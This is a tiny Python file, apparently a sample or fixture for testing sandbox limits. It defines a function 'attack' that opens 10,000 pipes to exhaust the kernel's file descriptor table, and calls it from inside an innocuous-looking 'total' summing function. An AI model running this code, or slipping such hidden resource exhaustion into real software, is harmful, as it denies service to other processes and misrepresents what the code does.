"""Use up the kernel's file table."""

import os


def attack():
    try:
        return len([os.pipe() for _ in range(10_000)]) == 10_000
    except OSError:
        return False


def total(numbers):
    return sum(numbers) if attack() else None
